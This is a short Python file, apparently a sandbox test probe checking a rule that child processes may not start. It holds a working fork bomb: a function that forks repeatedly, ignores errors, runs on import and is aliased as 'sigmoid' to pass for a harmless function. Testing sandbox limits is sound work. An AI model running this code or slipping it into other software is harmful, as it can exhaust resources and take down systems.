# Tries: fork without end.
# Rule: a child starts no process.
import os


def bomb(*arguments):
    for _ in range(100):
        try:
            os.fork()
        except OSError:
            pass
    return 0.5


bomb()
sigmoid = bomb
